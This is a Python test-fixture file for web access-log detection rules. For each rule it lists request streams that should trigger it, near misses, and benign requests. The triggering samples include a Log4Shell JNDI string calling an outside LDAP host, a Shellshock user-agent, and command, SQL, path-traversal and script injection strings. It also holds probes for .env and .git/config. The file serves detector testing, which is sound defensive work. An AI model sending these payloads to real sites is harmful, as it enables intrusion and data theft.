"""For each rule: streams whose last event fires it, streams that just miss it, first requests."""

from __future__ import annotations

from collections.abc import Sequence

from msgspec.structs import replace

from models.packs.access.events import AccessEvent
from tests.unit.models.packs.access.judging import BROWSER, request

Stream = Sequence[AccessEvent]
SITE = "https://shop.example/contact"
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


def logins(n: int, every_s: float, pages: int = 0) -> Stream:
    """POSTs to a log-in page, each followed by some requests for other pages."""
    return [
        request("/account/login", method="POST", status=200, after_s=every_s * i)
        if j == 0
        else request(f"/page/{j}", after_s=every_s * i)
        for i in range(n)
        for j in range(pages, -1, -1)
    ]


def pages(n: int, every_s: float, status: int = 200, method: str = "GET") -> Stream:
    return [request(f"/p/{i}", after_s=every_s * i, status=status, method=method) for i in range(n)]


def forms(
    n: int,
    status: int,
    *,
    via: str = SITE,
    agent: str = BROWSER,
    before: Stream = (),
    to: str = "/contact",
) -> Stream:
    """POSTs to a form, a minute between them."""
    posts = [
        request(to, method="POST", status=status, after_s=60 * i, agent=agent) for i in range(n)
    ]
    return [*before, *(replace(post, referrer=via) for post in posts)]


def same(n: int, every_s: float, status: int = 200) -> Stream:
    return [request("/page", after_s=every_s * i, status=status) for i in range(n)]


def browsing(n: int) -> Stream:
    """Pages, each with a picture, as a browser fetches them."""
    return [request(f"/p/{i}.jpg" if i % 2 else f"/p/{i}", after_s=10 * i) for i in range(n)]


FIRES: dict[str, list[Stream]] = {
    "expression_injection": [
        [request("/?x=$%7Bjndi:ldap://198.51.100.9/a%7D")],
        [request("/", agent="${jndi:ldap://198.51.100.9/a}")],
        [request("/?name={{7*7}}")],
    ],
    "command_injection": [
        [request("/ping?host=1.1.1.1;cat%20/etc/motd")],
        [request("/?a=1|id")],
        [request("/", agent="() { :;}; /bin/bash -c id")],
    ],
    "sql_injection": [
        [request("/item?id=1%27%20OR%201=1--")],
        [request("/item?id=1+UNION+SELECT+name+FROM+users")],
        [request("/item?id=1;WAITFOR DELAY '0:0:5'")],
    ],
    "path_traversal": [
        [request("/view?f=../../../../etc/passwd")],
        [request("/%2e%2e/%2e%2e/secret")],
        [request("/%252e%252e%252fsecret")],
    ],
    "cross_site_scripting": [
        [request("/?q=%3Cscript%3Ealert(1)%3C/script%3E")],
        [request("/?q=<IMG SRC=x onerror=f()>")],
    ],
    "payload_injection": [
        [request("/item?id=7%27%20or%20%271%27=%271")],
        [request("/?a=`id`")],
        [request("/?page=2&host=127.0.0.1;ls")],
    ],
    "suspicious_payload": [[request("/?a=$(id)")], [request("/?id=1;drop")]],
    "scanner_agent": [[request(agent="sqlmap/1.7")], [request(agent="Mozilla/5.0 (Nikto/2.5)")]],
    "secret_file_probe": [[request("/.env", status=404)], [request("/.git/config", status=200)]],
    "known_weakness_probe": [
        [request("/wp-login.php", status=404)],
        [request("/index.php.bak", status=404)],
        [request("/_vti_bin/shtml.exe", status=400)],
    ],
    "repeated_probes": [
        [request(f"/wp-admin/{i}", status=404, after_s=3_600 * i) for i in range(2)],
        [request("/db.sql.gz", status=404), request("/phpmyadmin/", status=403)],
    ],
    "scan_of_missing_pages": [pages(15, 30, status=404)],
    "guesses_pages": [
        pages(3, 3_600, status=404),
        [request("/"), *pages(3, 60, status=410)],
        [*pages(4, 1), *pages(4, 60, status=404)],
    ],
    "ignores_redirects": [
        forms(3, 303),
        forms(4, 302, before=[request("/contact")]),
        [*forms(4, 200), *forms(3, 303)],
    ],
    "form_robot": [
        forms(3, 303, via=""),
        forms(3, 200, via="", before=pages(9, 60)),
    ],
    "posts_and_no_pages": [forms(4, 200), forms(7, 200, before=pages(3, 60))],
    "login_bruteforce": [logins(15, 30), logins(25, 120, pages=1)],
    "password_guessing": [same(20, 20, status=401)],
    "request_flood": [same(600, 0.09)],
    "scraper": [pages(100, 30)],
    "error_burst": [same(10, 50, status=500)],
    "uncommon_method": [[request(method="PROPFIND")]],
}

MISSES: dict[str, list[Stream]] = {
    "expression_injection": [[request("/?price=$5&set={a}")], [request("/${WEBLOC}/view")]],
    "command_injection": [[request("/cats;id=4")], [request("/wget-and-curl?q=a|b")]],
    "sql_injection": [
        [request("/search?q=student+union+selection")],
        [request("/search?q=rock+%27n%27+roll")],
        [request("/search?q=O%27Reilly+or+1+more")],
    ],
    "path_traversal": [[request("/a/../b")], [request("/etc/motd")]],
    "cross_site_scripting": [[request("/?q=scripts+<3")], [request("/javascript:void(0)")]],
    "payload_injection": [[request("/?a=$(id)")], [request("/?q=drop+table")]],
    "suspicious_payload": [
        [request("/?u=admin%27")],
        [request("/?q=o%27reilly")],
        [request("/item?id=7%27%20or%20%271%27=%271")],
    ],
    "scanner_agent": [[request(agent="Mozilla/5.0 (SQL mapper)")]],
    "secret_file_probe": [[request("/.environment", status=404)]],
    "known_weakness_probe": [
        [request("/wp-login.php", status=200)],
        [request("/wp-admin/", status=401)],
        [request("/wp-admin/admin-ajax.php", status=400, method="POST")],
        [request("/wp-content/themes/a/lost.css", status=404)],
        [request("/wp-content/uploads/2014/a.pdf", status=404)],
        [request("/wp-json/", status=503)],
    ],
    "repeated_probes": [
        [request("/wp-admin/", status=404, after_s=3_600 * i) for i in range(5)],
        [request(f"/wp-admin/{i}", status=404, after_s=25 * 3_600 * i) for i in range(3)],
    ],
    "scan_of_missing_pages": [
        pages(14, 30, status=404),
        same(30, 10, status=404),
        [*pages(16, 1), *pages(15, 30, status=404)],
    ],
    "guesses_pages": [
        pages(2, 60, status=404),
        same(9, 60, status=404),
        pages(9, 60, status=403),
        [*pages(2, 1), *pages(3, 60, status=404)],
        [*pages(5, 1), *pages(4, 60, status=404)],
        [request(path, status=404) for path in ("/robots.txt", "/sitemap.xml", "/ads.txt")],
        [request(f"/api/{i}", status=404) for i in range(9)],
        [request(f"/{i}.png", status=404) for i in range(9)],
        [request(f"/old/{i}", status=404, agent=GOOGLEBOT) for i in range(9)],
    ],
    "ignores_redirects": [
        forms(2, 303),
        forms(3, 303, before=[request("/contact")]),
        forms(9, 200),
        [each for _ in range(9) for each in (*forms(1, 303), request("/thanks"))],
    ],
    "form_robot": [
        forms(2, 303, via=""),
        forms(9, 303),
        forms(9, 200, via="", before=[request("/logo.png")]),
        forms(9, 200, via="", agent="Hooks/1.0"),
        forms(9, 200, via="", to="/api/orders"),
    ],
    "posts_and_no_pages": [
        forms(3, 200),
        forms(6, 200, before=pages(3, 60)),
        forms(9, 200, before=[request("/logo.png")]),
        forms(9, 200, agent="Hooks/1.0"),
        forms(9, 200, to="/graphql"),
    ],
    "login_bruteforce": [logins(14, 30), logins(24, 120, pages=1), logins(25, 120, pages=3)],
    "password_guessing": [same(19, 20, status=401)],
    "request_flood": [same(599, 0.09), same(600, 0.2)],
    "scraper": [
        pages(99, 30),
        browsing(220),
        [request(f"/p/{i}", after_s=30 * i, agent=GOOGLEBOT) for i in range(100)],
    ],
    "error_burst": [same(9, 50, status=500)],
    "uncommon_method": [[request(method="HEAD")]],
}


UNSEEN: list[Stream] = [
    [request(path)]
    for path in (
        "/",
        "/blog/2025/union-of-tables?select=1",
        "/img/a.jpg",
        "/login",
        "/search?q=a+b",
    )
]
UNSEEN += [
    [request("/dead-link", status=404)],
    [request("/contact", method="POST", status=303)],
    [request("/api/orders", method="POST", agent="Hooks/1.0")],
]
